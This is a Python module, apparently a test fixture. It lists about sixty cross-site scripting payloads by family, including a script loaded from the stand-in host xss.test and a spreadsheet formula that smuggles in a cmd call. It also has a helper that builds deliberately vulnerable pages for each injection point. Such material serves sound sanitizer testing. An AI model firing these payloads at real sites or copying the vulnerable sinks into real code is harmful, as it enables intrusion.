"""Sixty texts that try to become code where they are shown, by family; most of them do so in a page without care.

Whatever runs sets `__xss`; every element that is made of one carries `data-x`; whoever is asked for more is xss.test.
"""

from __future__ import annotations

from typing import Literal, NamedTuple

Sink = Literal[
    "html", "double", "single", "bare", "comment", "title", "textarea", "style", "css",
    "script", "script_single", "script_template", "script_comment", "script_escaped",
    "link", "frame", "again", "decoded", "url", "write", "none",
]  # fmt: skip
"""Where a careless page puts it: between tags, into an attribute, into a script, ...; `none`: no browser runs it."""

MARK = "data-x"
ELSEWHERE = "http://xss.test/"


class Payload(NamedTuple):
    family: str
    sink: Sink
    text: str


_FAMILIES: dict[str, tuple[tuple[Sink, str], ...]] = {
    "script tags": (
        ("html", "<script data-x>__xss=1</script>"),
        ("html", "<ScRiPt data-x>__xss=1</sCrIpT >"),
        ("html", "<script src=http://xss.test/1 data-x></script>"),
        ("html", "<script/x data-x>__xss=1</script/x>"),
        ("html", '<IMG """><SCRIPT data-x>__xss=1</SCRIPT>">'),
    ),
    "event handlers": (
        ("html", "<img src=x data-x onerror=__xss=1>"),
        ("html", "<body data-x onload=__xss=1>"),
        ("html", "<details data-x open ontoggle=__xss=1>"),
        ("html", "<video data-x><source onerror=__xss=1></video>"),
        ("html", "<iframe data-x onload=__xss=1></iframe>"),
        ("html", "<b data-x onpointerover=__xss=1 style=position:fixed;inset:0>"),
        ("html", "<object data=/x data-x onerror=__xss=1></object>"),
    ),
    "svg": (
        ("html", "<svg data-x onload=__xss=1>"),
        ("html", "<svg data-x><script>__xss=1</script></svg>"),
        ("html", "<svg data-x><animate onbegin=__xss=1 attributeName=x dur=1s>"),
        ("html", "<svg/data-x/onload=__xss=1//"),
    ),
    "javascript addresses": (
        ("link", "javascript:__xss=1"),
        ("link", "JaVaScRiPt:__xss=1"),
        ("link", "java\tscript:__xss=1"),
        ("link", "javascript:%5F%5Fxss=1//"),
        ("double", 'javascript&colon;__xss=1" autofocus onfocus="__xss=1" data-x="'),
        ("frame", "javascript:parent.__xss=1"),
    ),
    "data addresses": (
        ("frame", "data:text/html,<script data-x>__xss=1</script>"),
        ("frame", "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+"),
    ),
    "attribute breaks": (
        ("double", '" data-x autofocus onfocus=__xss=1 x="'),
        ("double", '"><img src=x data-x onerror=__xss=1>'),
        ("single", "' data-x autofocus onfocus=__xss=1 x='"),
        ("single", "'><svg data-x onload=__xss=1>"),
        ("bare", "x data-x autofocus onfocus=__xss=1"),
    ),
    "element breaks": (
        ("comment", "--><img src=x data-x onerror=__xss=1>"),
        ("title", "</title><img src=x data-x onerror=__xss=1>"),
        ("textarea", "</textarea><img src=x data-x onerror=__xss=1>"),
        ("style", "</style><img src=x data-x onerror=__xss=1>"),
    ),
    "script breaks": (
        ("script", "</script><script data-x>__xss=1</script>"),
        ("script", '";__xss=1//'),
        ("script_single", "'-(__xss=1)-'"),
        ("script_template", "${__xss=1}"),
        ("script_comment", "\u2028__xss=1//"),
        ("script_escaped", '\\";__xss=1//'),
    ),
    "css": (
        ("html", "<style data-x>*{background:url(http://xss.test/1)}</style>"),
        ("html", "<link data-x rel=stylesheet href=http://xss.test/1>"),
        ("css", "background:url(http://xss.test/1)"),
    ),
    "mutations": (
        ("again", '<xmp><p title="</xmp><img src data-x onerror=__xss=1>">'),
        ("again", '<svg></p><style><a id="</style><img src data-x onerror=__xss=1>">'),
        ("again", "<math><mtext></form><form><mglyph><style></math><img src data-x onerror=__xss=1>"),
        ("html", "<!--><img src=x data-x onerror=__xss=1>-->"),
    ),
    "encodings": (
        ("decoded", "&lt;img src=x data-x onerror=__xss=1&gt;"),
        ("url", "%3Cimg src=x data-x onerror=__xss=1%3E"),
        ("write", "\\x3cimg src=x data-x onerror=__xss=1\\x3e"),
        ("html", "<img src=x data-x onerror=\\u005f_xss=1>"),
        ("none", "\uff1cscript\uff1e__xss=1\uff1c/script\uff1e"),
    ),
    "unseen signs": (
        ("html", "\u202e<img src=x data-x onerror=__xss=1>gpj.exe"),
        ("html", "\u200b<svg\u00a0data-x><img src=x data-x onerror=__xss=1>\ufeff"),
        ("html", "<img src=x data-x\x00 onerror=__xss=1>"),
    ),
    "templates": (
        ("none", "{{constructor.constructor('__xss=1')()}}"),
        ("none", "$&$1$`{name}{0}%s{data-x|x}{a}{b}{c}"),
    ),
    "markdown": (("none", "[x](javascript:__xss=1)![x](x\"onerror='__xss=1')"),),
    "formulas": (
        ("none", '=HYPERLINK("http://xss.test/1","x")'),
        ("none", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ),
    "names of objects": (("none", "__proto__"),),
}

PAYLOADS = tuple(Payload(family, sink, text) for family, many in _FAMILIES.items() for sink, text in many)
FAMILIES = tuple(_FAMILIES)
TEXTS = tuple(each.text for each in PAYLOADS)
HARMLESS = frozenset(each.family for each in PAYLOADS) - {each.family for each in PAYLOADS if each.sink != "none"}
"""Families that need a template engine, a spreadsheet or a careless program; a browser runs none of them."""

_SINKS: dict[Sink, str] = {
    "html": "<div>{}</div>",
    "double": '<input value="{}">',
    "single": "<input value='{}'>",
    "bare": "<input value={}>",
    "comment": "<!-- {} -->",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "style": "<style>p{{}}{}</style>",
    "css": '<p style="{}">x</p>',
    "script": '<script>var a = "{}";</script>',
    "script_single": "<script>var a = '{}';</script>",
    "script_template": "<script>var a = `{}`;</script>",
    "script_comment": "<script>// {}</script>",
    "script_escaped": '<script>var a = "{}";</script>',
    "link": '<a href="{}">x</a><script>document.links[0].click()</script>',
    "frame": '<iframe src="{}"></iframe>',
    "again": "<div></div><textarea>{}</textarea><script>const d = document.querySelector('div');"
    "d.innerHTML = document.querySelector('textarea').value; d.innerHTML = d.innerHTML</script>",
    "decoded": "<div>{}</div><script>const d = document.querySelector('div'); d.innerHTML = d.textContent</script>",
    "url": '<div></div><script>document.querySelector("div").innerHTML = decodeURIComponent("{}")</script>',
    "write": '<script>document.write("{}")</script>',
    "none": "<div>{}</div>",
}


def careless(payload: Payload) -> str:
    """A page that puts the text where it likes to be, as it is."""
    text = payload.text.replace('"', '\\"') if payload.sink == "script_escaped" else payload.text
    return "<!doctype html><body>" + _SINKS[payload.sink].replace("{{}}", "{ }").replace("{}", text)
